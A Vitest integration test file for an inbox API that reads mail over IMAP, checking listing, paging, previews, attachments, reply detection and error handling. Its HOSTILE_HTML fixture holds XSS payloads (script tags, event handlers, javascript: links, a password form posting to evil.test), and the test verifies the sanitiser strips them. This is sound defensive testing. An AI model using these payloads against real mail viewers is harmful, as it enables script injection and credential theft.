import { once } from 'node:events';
import net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import MailComposer from 'nodemailer/lib/mail-composer';
import type Mail from 'nodemailer/lib/mailer';
import {
  IMAP_PASSWORD_UNREADABLE,
  INBOX_EMAIL_NOT_FOUND,
  INVALID_EMAIL_ID,
  NO_IMAP_CONFIG,
} from '@leadline/shared/inbox';
import type { InboxEmail, InboxMessage } from '@leadline/shared/inbox';
import { eq } from 'drizzle-orm';
import { sentEmails } from '../src/db/schema.ts';
import { emailReplies } from '../src/db/tables/email-jobs.ts';
import { createSecretBox } from '../src/mail/crypto.ts';
import { saveMailAccount } from '../src/modules/mail-accounts/repo.ts';
import { TEST_SECRET_KEY, createTestContext } from './context.ts';
import type { TestContext } from './context.ts';
import { adminOf, insertLeads } from './fixtures.ts';
import { appendToInbox, asMailboxOwner, freePort, startImapServer } from './mail-servers.ts';
import type { TestImapServer } from './mail-servers.ts';

let t: TestContext;
let imap: TestImapServer;
let acme: Awaited<ReturnType<typeof adminOf>>;
/** UIDs of the appended emails, in the order they arrived. */
const uids: Record<string, number> = {};

const ORG = 'acme-inbox';
const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const PDF = Buffer.from('%PDF-1.4\n% a tiny attachment\n');

const HOSTILE_HTML = `<html><head><title>Hidden title</title>
<style>body { background: url(https://tracker.test/css.png) }</style>
<script>window.top.document.title = 'pwned'</script></head>
<body onload="alert(1)">
<p>Quarterly <b>numbers</b> inside.</p>
<img src="https://tracker.test/pixel.png?id=42" width="1" height="1" alt="">
<img src="x" onerror="fetch('/api/leads')">
<img src="//tracker.test/relative.png">
<a href="javascript:alert(1)">click me</a>
<a href="https://example.com/offer">the offer</a>
<iframe src="https://evil.test/frame"></iframe>
<form action="https://evil.test/steal"><input name="password"><button>Send</button></form>
<div style="color: red; background-image: url(https://tracker.test/bg.png); width: expression(alert(1))">styled</div>
<svg><script>alert(1)</script></svg>
</body></html>`;

const build = (mail: Mail.Options): Promise<Buffer> =>
  new MailComposer({ to: 'rep@mail.test', ...mail }).compile().build();

/** Appends a message to the INBOX; returns its UID. */
const append = async (raw: Buffer | string): Promise<number> =>
  (await appendToInbox(imap, [raw]))[0]!;

/** The \Seen flag of every message, by UID. */
const seenFlags = (): Promise<boolean[]> =>
  asMailboxOwner(imap, async (client) => {
    const lock = await client.getMailboxLock('INBOX', { readOnly: true });
    try {
      const messages = await client.fetchAll('1:*', { uid: true, flags: true });
      return messages.map((message) => message.flags?.has('\\Seen') ?? false);
    } finally {
      lock.release();
    }
  });

/**
 * An Admin of a new organisation whose IMAP settings are written straight into the database
 * (for settings the API would refuse): the test server's, with other values where given.
 */
const adminWithStoredImap = async (
  organizationName: string,
  overrides: { port?: number; pass?: string; secretKey?: string } = {},
) => {
  const { user, token } = await t.createUser({ role: 'Admin', organizationName });
  const store = (port: number) =>
    saveMailAccount(t.database.db, user.id, {
      imap: {
        host: imap.host,
        port,
        secure: false,
        user: imap.user,
        passEncrypted: createSecretBox(overrides.secretKey ?? TEST_SECRET_KEY).encrypt(
          overrides.pass ?? imap.password,
        ),
      },
    });
  await store(overrides.port ?? imap.port);
  return { token, store };
};

const configureImap = async (token: string) => {
  const response = await t.request({
    method: 'POST',
    url: '/api/email/config',
    token,
    payload: {
      imap: {
        host: imap.host,
        port: imap.port,
        secure: false,
        user: imap.user,
        pass: imap.password,
      },
    },
  });
  expect(response.statusCode, response.body).toBe(200);
};

const inbox = (token: string, query = '') =>
  t.request({ method: 'GET', url: `/api/email/inbox${query}`, token });

const preview = async (token: string, uid: number): Promise<InboxMessage> => {
  const response = await t.request({ method: 'GET', url: `/api/email/inbox/${uid}`, token });
  expect(response.statusCode, response.body).toBe(200);
  return response.json();
};

beforeAll(async () => {
  [t, imap] = await Promise.all([
    createTestContext(),
    startImapServer({ password: 'imap-inbox-pass-Vb3$' }),
  ]);
  acme = await adminOf(t, ORG);
  await configureImap(acme.token);

  uids.plain = await append(
    'From: "Ada Lovelace" <ada@lead.test>\r\nTo: rep@mail.test\r\nSubject: Plain =?utf-8?q?h=C3=A9llo?=\r\n' +
      'Date: Mon, 01 Jan 2024 09:00:00 +0000\r\nMessage-ID: <plain@lead.test>\r\nMIME-Version: 1.0\r\n' +
      'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n' +
      'Gr=C3=BC=C3=9Fe from Ada: a plain text email with a soft=\r\n line break.\r\n',
  );
  uids.multipart = await build({
    from: 'Grace Hopper <grace@lead.test>',
    subject: 'Multipart with attachment',
    date: new Date('2024-01-02T10:00:00Z'),
    text: 'The text version of the proposal.',
    html: '<p>The <b>HTML</b> version.</p><p><img src="cid:logo@lead.test" alt="Logo"></p>',
    attachments: [
      { filename: 'logo.gif', content: PIXEL, cid: 'logo@lead.test' },
      { filename: 'proposal.pdf', content: PDF, contentType: 'application/pdf' },
    ],
  }).then((raw) => append(raw));
  uids.hostile = await build({
    from: 'Mallory <mallory@evil.test>',
    subject: 'Your invoice',
    date: new Date('2024-01-03T10:00:00Z'),
    html: HOSTILE_HTML,
  }).then((raw) => append(raw));
  for (let index = 1; index <= 5; index += 1) {
    uids[`bulk${index}`] = await build({
      from: `Sender ${index} <sender${index}@lead.test>`,
      subject: `Bulk ${index}`,
      date: new Date(Date.UTC(2024, 1, index)),
      text: `Message number ${index}.`,
    }).then((raw) => append(raw));
  }
}, 60_000);
afterAll(async () => {
  await t?.close();
  await imap?.stop();
});

describe('GET /api/email/inbox', () => {
  it('lists the INBOX newest first with subject, sender, date and the start of the text', async () => {
    const response = await inbox(acme.token);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['x-total-count']).toBe('8');
    const emails: InboxEmail[] = response.json();
    expect(emails.map((email) => email.subject)).toEqual([
      'Bulk 5',
      'Bulk 4',
      'Bulk 3',
      'Bulk 2',
      'Bulk 1',
      'Your invoice',
      'Multipart with attachment',
      'Plain héllo',
    ]);
    expect(emails.map((email) => Number(email._id))).toEqual(
      Object.values(uids).sort((a, b) => b - a),
    );
    const plain = emails.at(-1)!;
    expect(plain).toEqual({
      _id: String(uids.plain),
      subject: 'Plain héllo',
      from: 'Ada Lovelace <ada@lead.test>',
      sender: { name: 'Ada Lovelace', address: 'ada@lead.test' },
      date: '2024-01-01T09:00:00.000Z',
      body: 'Grüße from Ada: a plain text email with a soft line break.',
      hasAttachments: false,
    });
    const multipart = emails.find((email) => email.subject === 'Multipart with attachment')!;
    expect(multipart.body).toBe('The text version of the proposal.');
    expect(multipart.hasAttachments).toBe(true);
    // The hostile email has HTML only: its preview line is text, never markup or script.
    const hostile = emails.find((email) => email.subject === 'Your invoice')!;
    expect(hostile.body).toContain('Quarterly numbers inside.');
    expect(hostile.body).not.toMatch(/pwned|<|Hidden title/);
  });

  it('pages with limit and before (a UID), without repeating or skipping', async () => {
    const seen: string[] = [];
    let before: string | undefined;
    for (;;) {
      const response = await inbox(acme.token, `?limit=3${before ? `&before=${before}` : ''}`);
      expect(response.statusCode, response.body).toBe(200);
      const page: InboxEmail[] = response.json();
      if (page.length === 0) break;
      expect(page.length).toBeLessThanOrEqual(3);
      seen.push(...page.map((email) => email._id));
      before = page.at(-1)!._id;
    }
    expect(seen.map(Number)).toEqual(Object.values(uids).sort((a, b) => b - a));
    const middle = await inbox(acme.token, `?limit=2&before=${uids.bulk3}`);
    expect(middle.json().map((email: InboxEmail) => email.subject)).toEqual(['Bulk 2', 'Bulk 1']);
    // A UID past the newest names the whole mailbox; one before the oldest, nothing.
    expect((await inbox(acme.token, '?limit=1&before=999999')).json()[0].subject).toBe('Bulk 5');
    expect((await inbox(acme.token, `?before=${uids.plain}`)).json()).toEqual([]);
  });

  it('refuses bad paging with a 400 and a clear message', async () => {
    for (const [query, message] of [
      ['?limit=0', 'limit must be 1 or more'],
      ['?limit=101', 'limit must be at most 100'],
      ['?limit=abc', 'limit must be a number'],
      ['?limit=2.5', 'limit must be a whole number'],
      ['?before=-4', 'before must be 1 or more'],
      ['?before=x', 'before must be a number'],
      ['?before=99999999999', 'before is too large'],
      [`?before=${'9'.repeat(5000)}`, 'before must be a number'],
    ] as const) {
      const response = await inbox(acme.token, query);
      expect(response.statusCode, query).toBe(400);
      expect(response.json().message, query).toBe(message);
    }
  });
});

describe('GET /api/email/inbox/:id', () => {
  it('opens a multipart email: text, HTML with its inline image, and the attachment list', async () => {
    const email = await preview(acme.token, uids.multipart!);
    expect(email).toMatchObject({
      _id: String(uids.multipart),
      subject: 'Multipart with attachment',
      from: 'Grace Hopper <grace@lead.test>',
      sender: { name: 'Grace Hopper', address: 'grace@lead.test' },
      to: [{ name: '', address: 'rep@mail.test' }],
      date: '2024-01-02T10:00:00.000Z',
      text: 'The text version of the proposal.',
      remoteImages: 0,
      hasAttachments: true,
    });
    expect(email.html).toContain('The <b>HTML</b> version.');
    // The cid: image is served from the message itself, as a data: URL.
    expect(email.html).toContain(`src="data:image/gif;base64,${PIXEL.toString('base64')}"`);
    expect(email.html).toContain('alt="Logo"');
    expect(email.attachments).toEqual([
      { index: 1, filename: 'proposal.pdf', contentType: 'application/pdf', size: PDF.length },
    ]);

    const file = await t.request({
      method: 'GET',
      url: `/api/email/inbox/${uids.multipart}/attachments/1`,
      token: acme.token,
    });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe('application/octet-stream');
    expect(file.headers['content-disposition']).toContain('filename="proposal.pdf"');
    expect(file.rawPayload.equals(PDF)).toBe(true);
    // The inline image is part of the HTML, not a listed file; nor is a number past the end.
    for (const index of ['0', '7']) {
      const missing = await t.request({
        method: 'GET',
        url: `/api/email/inbox/${uids.multipart}/attachments/${index}`,
        token: acme.token,
      });
      expect(missing.statusCode).toBe(404);
      expect(missing.json().message).toBe('Attachment not found');
    }
  });

  it('sanitises hostile HTML: no script, handler, javascript: URL, frame, form or remote load', async () => {
    const email = await preview(acme.token, uids.hostile!);
    const html = email.html!;
    expect(html).toContain('Quarterly <b>numbers</b> inside.');
    expect(html).toContain(
      '<a href="https://example.com/offer" target="_blank" rel="noopener noreferrer">the offer</a>',
    );
    expect(html).toContain('<div style="color:red">styled</div>');
    for (const banned of [
      /<script/i,
      /<style/i,
      /<iframe/i,
      /<form/i,
      /<input/i,
      /<svg/i,
      /\son\w+=/i,
      /javascript:/i,
      /url\(/i,
      /expression/i,
      /Hidden title/,
      /pwned/,
      /\ssrc="(https?:)?\/\//i,
    ]) {
      expect(html, String(banned)).not.toMatch(banned);
    }
    // The remote image is held back with its address; the relative one is dropped.
    expect(html).toContain('data-remote-src="https://tracker.test/pixel.png?id=42"');
    expect(html).not.toContain('relative.png');
    expect(email.remoteImages).toBe(1);
    expect(email.text).toContain('Quarterly numbers inside.');
  });

  it('opens a text-only email without HTML, and never marks anything as read', async () => {
    const email = await preview(acme.token, uids.plain!);
    expect(email.html).toBeNull();
    expect(email.text).toBe('Grüße from Ada: a plain text email with a soft line break.');
    expect(email.messageId).toBe('<plain@lead.test>');
    expect(await seenFlags()).toEqual(Object.values(uids).map(() => false));
  });

  it('answers 404 for an email that does not exist and 400 for what is no id', async () => {
    const missing = await t.request({
      method: 'GET',
      url: '/api/email/inbox/99999',
      token: acme.token,
    });
    expect(missing.statusCode).toBe(404);
    expect(missing.json().message).toBe(INBOX_EMAIL_NOT_FOUND);
    const huge = await t.request({
      method: 'GET',
      url: `/api/email/inbox/${'9'.repeat(5000)}`,
      token: acme.token,
    });
    expect(huge.statusCode).toBe(414);
    for (const id of ['abc', '0', '-1', '1.5', '99999999999', 'x'.repeat(90)]) {
      const response = await t.request({
        method: 'GET',
        url: `/api/email/inbox/${id}`,
        token: acme.token,
      });
      expect(response.statusCode, id).toBe(400);
      expect(response.json().message, id).toBe(INVALID_EMAIL_ID);
    }
    const index = await t.request({
      method: 'GET',
      url: `/api/email/inbox/${uids.multipart}/attachments/first`,
      token: acme.token,
    });
    expect(index.statusCode).toBe(400);
    expect(index.json().message).toBe('The attachment number must be a number');
  });
});

describe('the preview frame document', () => {
  it('blocks scripts, forms and remote images; allows remote images only in its second variant', async () => {
    const blocked = await t.request({ method: 'GET', url: '/api/email/inbox/frame' });
    expect(blocked.statusCode).toBe(200);
    expect(blocked.headers['content-type']).toBe('text/html; charset=utf-8');
    const policy = String(blocked.headers['content-security-policy']);
    expect(policy).toContain("default-src 'none'");
    expect(policy).toMatch(/img-src data:(;|$)/);
    expect(policy).not.toMatch(/https?:/);
    expect(policy).toContain('sandbox allow-same-origin allow-popups');
    expect(policy).not.toContain('allow-scripts');
    expect(blocked.body).toContain('<body></body>');

    const allowed = await t.request({
      method: 'GET',
      url: '/api/email/inbox/frame?images=allowed',
    });
    expect(String(allowed.headers['content-security-policy'])).toContain(
      'img-src data: https: http:',
    );
    const bad = await t.request({ method: 'GET', url: '/api/email/inbox/frame?images=all' });
    expect(bad.statusCode).toBe(400);
  });
});

describe('OpenAPI', () => {
  it('describes the inbox routes', async () => {
    const response = await t.request({ method: 'GET', url: '/api/docs/json' });
    expect(Object.keys(response.json().paths)).toEqual(
      expect.arrayContaining([
        '/api/email/inbox',
        '/api/email/inbox/frame',
        '/api/email/inbox/{id}',
        '/api/email/inbox/{id}/attachments/{index}',
      ]),
    );
  });
});

describe('reply detection', () => {
  it('looks for replies from leads when the inbox is read, without waiting for it', async () => {
    const db = t.database.db;
    const [leadId] = await insertLeads(db, acme.organizationId, [
      { personEmail: 'replying@lead.test', personFirstName: 'Rhea' },
    ]);
    await db.insert(sentEmails).values({
      organizationId: acme.organizationId,
      userId: acme.user.id,
      leadId,
      kind: 'single',
      status: 'sent',
      fromAddress: imap.user,
      to: 'replying@lead.test',
      subject: 'Our proposal',
      messageId: '<proposal-1@mail.test>',
    });
    await build({
      from: 'Rhea <replying@lead.test>',
      subject: 'Re: Our proposal',
      inReplyTo: '<proposal-1@mail.test>',
      references: ['<proposal-1@mail.test>'],
      text: 'Sounds good, let us talk on Monday.',
    }).then((raw) => append(raw));

    const replies = () => db.select().from(emailReplies).where(eq(emailReplies.leadId, leadId!));
    const deadline = Date.now() + 30_000;
    while ((await replies()).length === 0) {
      if (Date.now() > deadline) throw new Error('no reply was recorded');
      expect((await inbox(acme.token, '?limit=1')).statusCode).toBe(200);
      await new Promise((resolve) => setTimeout(resolve, 250));
    }
    const [reply] = await replies();
    expect(reply).toMatchObject({ fromAddress: 'replying@lead.test', subject: 'Re: Our proposal' });
  }, 60_000);
});

describe('inbox access and failures', () => {
  it('needs a token and the inbox permission', async () => {
    expect((await inbox('')).statusCode).toBe(401);
    const { token } = await t.createUser({
      role: 'Sales Rep',
      organizationName: ORG,
      permissions: { leadsTable: true },
    });
    const refused = await inbox(token);
    expect(refused.statusCode).toBe(403);
    expect(refused.json().message).toBe('You do not have permission to access Inbox.');
    expect(
      (await t.request({ method: 'GET', url: `/api/email/inbox/${uids.plain}`, token })).statusCode,
    ).toBe(403);
  });

  it('reads only the caller’s own mailbox: others without IMAP settings get a clear 400', async () => {
    const colleague = await t.createUser({
      role: 'Sales Manager',
      organizationName: ORG,
      permissions: { inbox: true },
    });
    const globex = await adminOf(t, 'globex-inbox');
    for (const token of [colleague.token, globex.token]) {
      const list = await inbox(token);
      expect(list.statusCode).toBe(400);
      expect(list.json()).toEqual({ message: NO_IMAP_CONFIG });
      const one = await t.request({ method: 'GET', url: `/api/email/inbox/${uids.plain}`, token });
      expect(one.statusCode).toBe(400);
      expect(one.json().message).toBe(NO_IMAP_CONFIG);
    }
  });

  it('says when the stored password can no longer be read (SECRET_KEY changed)', async () => {
    const { token } = await adminWithStoredImap('initech-inbox', {
      secretKey: 'another-secret-key-another-secret-key-42',
    });
    const response = await inbox(token);
    expect(response.statusCode).toBe(400);
    expect(response.json().message).toBe(IMAP_PASSWORD_UNREADABLE);
  });

  it('explains a refused connection and a server that never answers', async () => {
    const closed = await freePort();
    const { token, store } = await adminWithStoredImap('umbrella-inbox', { port: closed });
    const refused = await inbox(token);
    expect(refused.statusCode).toBe(400);
    expect(refused.json().message).toBe(
      `Connection refused: nothing answers on 127.0.0.1:${closed}. Check the IMAP host and port.`,
    );

    // Accepts the connection and never greets.
    const sockets: net.Socket[] = [];
    const silent = net.createServer((socket) => sockets.push(socket));
    silent.listen(0, '127.0.0.1');
    await once(silent, 'listening');
    try {
      const { port } = silent.address() as net.AddressInfo;
      await store(port);
      const timeout = await inbox(token);
      expect(timeout.statusCode).toBe(400);
      expect(timeout.json().message).toMatch(
        new RegExp(
          `^The IMAP server on 127\\.0\\.0\\.1:${port} did not answer within 10 seconds \\(timeout\\)`,
        ),
      );
    } finally {
      for (const socket of sockets) socket.destroy();
      silent.close();
    }
  }, 60_000);

  // Last: Dovecot slows the next logins from this address after a failed one.
  it('says when the IMAP login fails, and never shows or logs the password', async () => {
    const wrong = 'not-the-password-Jx4!';
    const { token } = await adminWithStoredImap('hooli-inbox', { pass: wrong });
    const response = await inbox(token);
    expect(response.statusCode).toBe(400);
    expect(response.json().message).toBe('IMAP login failed: wrong username or password.');
    const logs = t.logs.join('\n');
    for (const secret of [wrong, imap.password]) {
      expect(response.body).not.toContain(secret);
      expect(logs).not.toContain(secret);
    }
  }, 60_000);
});
